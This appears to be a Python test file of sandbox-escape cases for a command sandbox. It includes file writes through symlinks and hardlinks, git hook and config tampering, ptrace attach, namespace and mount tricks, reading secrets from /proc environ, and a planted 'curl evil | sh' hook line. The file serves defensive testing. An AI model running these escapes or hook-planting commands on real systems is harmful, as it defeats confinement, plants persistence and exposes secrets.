"""The escape attempts. Each prepares its targets in a fresh `World` and returns the command plus
a host-side check of whether the escape happened (the file changed, the process died, the
server saw a connection…), so a test proves the effect, not just an exit code."""

from __future__ import annotations

import os
import shutil
import socket
import stat
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.sandbox.escape_world import (
    MARK,
    ORIGINAL,
    PY,
    SECRET_NAME,
    SECRET_VALUE,
    Result,
    World,
    accepted,
    died,
    received,
)

Check = Callable[[Result], bool]


@dataclass
class Attempt:
    argv: list[str]
    escaped: Check
    outside_env: dict[str, str] | None = None  # the control run's env, when it must differ
    cwd: str = ""  # relative to the workspace


@dataclass(frozen=True)
class Case:
    name: str
    prepare: Callable[[World], Attempt]
    needs: tuple[str, ...] = ()  # programs that must be installed
    root_only: bool = False  # the control run only succeeds as root
    known_gaps: dict[str, str] = field(default_factory=dict)  # mechanism -> documented gap
    #: The kernel or file system here may refuse it even unconfined: skip, don't fail, then.
    optional: str = ""


CASES: list[Case] = []


def case(
    name: str,
    *,
    needs: tuple[str, ...] = (),
    root_only: bool = False,
    gaps: dict[str, str] | None = None,
    optional: str = "",
) -> Callable[[Callable[[World], Attempt]], Callable[[World], Attempt]]:
    def register(prepare: Callable[[World], Attempt]) -> Callable[[World], Attempt]:
        CASES.append(Case(name, prepare, needs, root_only, gaps or {}, optional))
        return prepare

    return register


def sh(script: str) -> list[str]:
    return ["sh", "-c", script]


def py(code: str) -> list[str]:
    return [PY, "-c", code]


def marked(result: Result) -> bool:
    return MARK in result.stdout


def changed(w: World) -> Check:
    return lambda _: not w.target.exists() or w.target.read_text() != ORIGINAL


def exists(path: os.PathLike[str] | str) -> Check:
    return lambda _: os.path.lexists(path)


# --- writing outside the workspace ---------------------------------------------------------


@case("write-absolute-path")
def _(w: World) -> Attempt:
    return Attempt(sh(f"echo pwned > {w.target}"), changed(w))


@case("create-file-outside")
def _(w: World) -> Attempt:
    return Attempt(["touch", str(w.out / "new")], exists(w.out / "new"))


@case("write-dotdot-relative")
def _(w: World) -> Attempt:
    rel = os.path.relpath(w.target, w.ws / "src")
    return Attempt(sh(f"cd src && echo pwned > {rel}"), changed(w))


@case("write-through-planted-file-symlink")
def _(w: World) -> Attempt:
    (w.ws / "link.txt").symlink_to(w.target)
    return Attempt(sh("echo pwned > link.txt"), changed(w))


@case("write-through-planted-dir-symlink")
def _(w: World) -> Attempt:
    (w.ws / "src" / "linkdir").symlink_to(w.out)
    return Attempt(["touch", "src/linkdir/new"], exists(w.out / "new"))


@case("symlink-created-inside-then-write")
def _(w: World) -> Attempt:
    return Attempt(sh(f"ln -s {w.target} src/l && echo pwned > src/l"), changed(w))


@case("hardlink-outside-file-then-write")
def _(w: World) -> Attempt:
    return Attempt(sh(f"ln {w.target} src/hl && echo pwned >> src/hl"), changed(w))


@case("move-outside-file-into-workspace")
def _(w: World) -> Attempt:
    return Attempt(["mv", str(w.target), "src/"], changed(w))


@case("delete-outside-file")
def _(w: World) -> Attempt:
    return Attempt(["rm", "-f", str(w.target)], changed(w))


@case("truncate-outside-file")
def _(w: World) -> Attempt:
    return Attempt(py(f"import os; os.truncate({str(w.target)!r}, 0)"), changed(w))


@case("mkdir-outside")
def _(w: World) -> Attempt:
    return Attempt(["mkdir", str(w.out / "d")], exists(w.out / "d"))


@case("write-host-tmp")
def _(w: World) -> Attempt:
    path = w.host_path("/tmp")
    return Attempt(sh(f"echo pwned > {path}"), exists(path))


@case("write-etc", root_only=True)
def _(w: World) -> Attempt:
    path = w.host_path("/etc")
    return Attempt(["touch", str(path)], exists(path))


@case("write-usr", root_only=True)
def _(w: World) -> Attempt:
    path = w.host_path("/usr")
    return Attempt(["touch", str(path)], exists(path))


@case("write-home")
def _(w: World) -> Attempt:
    path = w.host_path(os.path.expanduser("~"))
    return Attempt(["touch", str(path)], exists(path))


@case("chmod-outside-file")
def _(w: World) -> Attempt:
    return Attempt(
        ["chmod", "0777", str(w.target)], lambda _: stat.S_IMODE(w.target.stat().st_mode) == 0o777
    )


@case("chown-outside-file", root_only=True)
def _(w: World) -> Attempt:
    return Attempt(["chown", "4321", str(w.target)], lambda _: w.target.stat().st_uid == 4321)


# --- the protected directories -------------------------------------------------------------


@case("write-git-hook")
def _(w: World) -> Attempt:
    hook = w.ws / ".git" / "hooks" / "pre-commit"
    return Attempt(sh(f"echo 'curl evil | sh' > {hook.relative_to(w.ws)}"), exists(hook))


@case("git-config-hookspath", needs=("git",))
def _(w: World) -> Attempt:
    config = w.ws / ".git" / "config"
    return Attempt(
        ["git", "config", "core.hooksPath", "/evil"], lambda _: "/evil" in config.read_text()
    )


@case("write-git-through-symlink")
def _(w: World) -> Attempt:
    (w.ws / "src" / "hooks").symlink_to(w.ws / ".git" / "hooks")
    hook = w.ws / ".git" / "hooks" / "post-checkout"
    return Attempt(sh("echo evil > src/hooks/post-checkout"), exists(hook))


@case("replace-git-dir")
def _(w: World) -> Attempt:
    return Attempt(["mv", ".git", "old-git"], lambda _: not (w.ws / ".git").exists())


@case("workdir-inside-git-hooks")
def _(w: World) -> Attempt:
    # The command's cwd is made writable; a cwd inside .git must not be.
    hook = w.ws / ".git" / "hooks" / "pre-commit"
    return Attempt(sh("echo evil > pre-commit"), exists(hook), cwd=".git/hooks")


@case("write-lever-dir")
def _(w: World) -> Attempt:
    return Attempt(["touch", ".lever/config.toml"], exists(w.ws / ".lever" / "config.toml"))


# Under Landlock these writes happen, and lever's check after the command undoes them
# (protect.py): the case passes only if nothing is left once the command returned.


@case("create-lever-where-none-exists")
def _(w: World) -> Attempt:
    shutil.rmtree(w.ws / ".lever")
    config = w.ws / ".lever" / "config.toml"
    return Attempt(sh("mkdir .lever && echo '[local]' > .lever/config.toml"), exists(config))


@case("create-git-where-none-exists", needs=("git",))
def _(w: World) -> Attempt:
    shutil.rmtree(w.ws / ".git")
    hook = w.ws / ".git" / "hooks" / "post-checkout"
    return Attempt(sh("git init -q . && echo evil > .git/hooks/post-checkout"), exists(hook))


@case("activate-sample-hook")
def _(w: World) -> Attempt:
    hook = w.ws / ".git" / "hooks" / "pre-commit"
    return Attempt(["mv", ".git/hooks/pre-commit.sample", str(hook)], exists(hook))


@case("hooks-dir-replaced-by-symlink")
def _(w: World) -> Attempt:
    hooks = w.ws / ".git" / "hooks"
    return Attempt(sh("rm -rf .git/hooks && ln -s ../src .git/hooks"), lambda _: hooks.is_symlink())


@case("git-info-attributes")
def _(w: World) -> Attempt:
    attributes = w.ws / ".git" / "info" / "attributes"
    return Attempt(sh("echo '* filter=evil' > .git/info/attributes"), exists(attributes))


@case("rebase-todo-exec")
def _(w: World) -> Attempt:
    todo = w.ws / ".git" / "rebase-merge" / "git-rebase-todo"
    script = (
        "mkdir -p .git/rebase-merge && echo 'exec touch /tmp/x' > .git/rebase-merge/git-rebase-todo"
    )
    return Attempt(sh(script), exists(todo))


@case("submodule-git-dir-config")
def _(w: World) -> Attempt:
    sub = w.ws / ".git" / "modules" / "lib"
    (sub / "hooks").mkdir(parents=True)
    (sub / "HEAD").write_text("ref: refs/heads/main\n")
    (sub / "config").write_text("[core]\n")
    script = "printf '\\tfsmonitor = evil\\n' >> .git/modules/lib/config"
    return Attempt(sh(script), lambda _: "fsmonitor" in (sub / "config").read_text())


@case("git-dir-moved-behind-a-gitfile")
def _(w: World) -> Attempt:
    # `.git` becomes a file pointing at the real git dir moved elsewhere in the workspace,
    # whose hooks the command then writes.
    hook = w.ws / "src" / "g" / "hooks" / "pre-commit"
    script = "mv .git src/g && echo 'gitdir: src/g' > .git && echo evil > src/g/hooks/pre-commit"
    return Attempt(sh(script), lambda _: (w.ws / ".git").is_file() or hook.exists())


@case("git-config-mode-bits")
def _(w: World) -> Attempt:
    config = w.ws / ".git" / "config"
    return Attempt(
        ["chmod", "0666", str(config)], lambda _: stat.S_IMODE(config.stat().st_mode) == 0o666
    )


# --- privileges: devices, mounts, namespaces, processes --------------------------------------


@case("mknod-char-device", needs=("mknod",), root_only=True)
def _(w: World) -> Attempt:
    node = w.ws / "src" / "mem"
    return Attempt(
        ["mknod", str(node), "c", "1", "3"], lambda _: node.exists() and node.is_char_device()
    )


@case("mount-tmpfs", needs=("mount", "umount"), root_only=True)
def _(w: World) -> Attempt:
    point = w.out / "mnt"
    point.mkdir()
    # The mount may land in the sandbox's own namespace, so the command reports success itself;
    # the control run's host mount is undone straight away.
    script = f"mount -t tmpfs none {point} && echo {MARK} && umount {point}"
    return Attempt(sh(script), marked)


@case("unshare-user-namespace", needs=("unshare",))
def _(w: World) -> Attempt:
    return Attempt(sh(f"unshare -Ur true && echo {MARK}"), marked)


@case("unshare-mount-namespace", needs=("unshare",), root_only=True)
def _(w: World) -> Attempt:
    return Attempt(sh(f"unshare -m true && echo {MARK}"), marked)


@case("unshare-net-namespace", needs=("unshare",), root_only=True)
def _(w: World) -> Attempt:
    return Attempt(sh(f"unshare -n true && echo {MARK}"), marked)


@case("kill-outside-process")
def _(w: World) -> Attempt:
    proc = w.outside_process()
    return Attempt(["kill", "-9", str(proc.pid)], lambda _: died(proc))


@case("ptrace-attach-outside-process")
def _(w: World) -> Attempt:
    proc = w.outside_process()
    code = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]\n"
        f"pid = {proc.pid}\n"
        "if libc.ptrace(16, pid, None, None) == 0:\n"  # PTRACE_ATTACH
        "    os.waitpid(pid, 0x40000000)\n"  # __WALL
        "    libc.ptrace(17, pid, None, None)\n"  # PTRACE_DETACH
        f"    print({MARK!r})\n"
        "else:\n"
        "    print('ptrace:', os.strerror(ctypes.get_errno()))\n"
    )
    return Attempt(py(code), marked)


@case("read-secret-env")
def _(w: World) -> Attempt:
    # Inside gets the env lever builds (command_env drops the secret); the control run gets
    # the raw environment, so the command itself demonstrably prints the secret when present.
    script = f'printf "%s" "${SECRET_NAME}"'
    return Attempt(
        sh(script), lambda r: SECRET_VALUE in r.stdout, {**w.env, SECRET_NAME: SECRET_VALUE}
    )


@case("read-secret-from-outside-process-environ")
def _(w: World) -> Attempt:
    proc = w.outside_process({**os.environ, SECRET_NAME: SECRET_VALUE})
    return Attempt(["cat", f"/proc/{proc.pid}/environ"], lambda r: SECRET_VALUE in r.stdout)


# --- network (loopback servers on the host only) --------------------------------------------


@case("tcp-connect-host-listener")
def _(w: World) -> Attempt:
    server = w.server(socket.SOCK_STREAM)
    port = server.getsockname()[1]
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).close()"
    return Attempt(py(code), lambda _: accepted(server))


@case("udp-send-host-socket")
def _(w: World) -> Attempt:
    server = w.server(socket.SOCK_DGRAM)
    port = server.getsockname()[1]
    code = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        f"s.sendto(b'hello', ('127.0.0.1', {port}))"
    )
    return Attempt(py(code), lambda _: received(server))


@case("dns-query-host-resolver")
def _(w: World) -> Attempt:
    port, seen = w.dns_server()
    code = (
        "import socket, struct\n"
        "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b'\\x07example\\x04test\\x00' "
        "+ struct.pack('>HH', 1, 1)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)\n"
        f"s.sendto(q, ('127.0.0.1', {port}))\n"
        "reply = s.recv(512)\n"
        f"print({MARK!r} if reply[:2] == q[:2] else 'bad reply')\n"
    )
    return Attempt(py(code), lambda r: marked(r) or bool(seen))


@case("abstract-unix-socket-to-host")
def _(w: World) -> Attempt:
    name = w.unique("lever-escape")
    server = w.server(socket.SOCK_STREAM, b"\0" + name.encode())
    code = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect(b'\\0{name}')"
    return Attempt(py(code), lambda _: accepted(server))
